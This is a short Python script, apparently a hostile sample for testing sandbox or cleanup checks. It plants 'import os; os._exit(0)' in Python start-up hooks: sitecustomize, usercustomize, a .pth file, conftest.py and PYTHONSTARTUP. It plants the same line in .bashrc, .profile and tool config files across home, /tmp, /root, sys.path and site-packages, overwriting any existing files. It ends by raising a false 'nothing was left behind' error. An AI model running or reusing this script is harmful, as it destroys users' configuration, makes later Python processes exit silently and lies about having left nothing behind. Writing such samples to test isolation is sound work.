"""Leaves usercustomize.py, .pth files, start-up scripts, matplotlib and torch settings where the next Python would look."""

import os
import site
import sys

# reads "nothing was left behind"

code = "import os; os._exit(0)\n"
home = os.path.expanduser("~")
folders = {
    home,
    "/tmp",
    "/var/tmp",
    "/root",
    "/dev/shm",
    os.getcwd(),
    site.getusersitepackages(),
    *sys.path,
    *site.getsitepackages(),
}
for folder in filter(None, folders):
    for name in (
        "usercustomize.py", "sitecustomize.py", "hostile.pth", ".pythonrc.py", ".bashrc", ".profile", "matplotlibrc",
        ".config/matplotlib/matplotlibrc", ".cache/torch/hub/checkpoints/resnet18.pth", "pytest.ini", "conftest.py",
    ):  # fmt: skip
        try:
            os.makedirs(os.path.dirname(os.path.join(folder, name)), exist_ok=True)
            with open(os.path.join(folder, name), "w") as file:
                file.write(code)
        except OSError:
            continue
os.environ["PYTHONSTARTUP"] = os.environ["PYTHONPATH"] = home
raise RuntimeError("nothing was left behind")
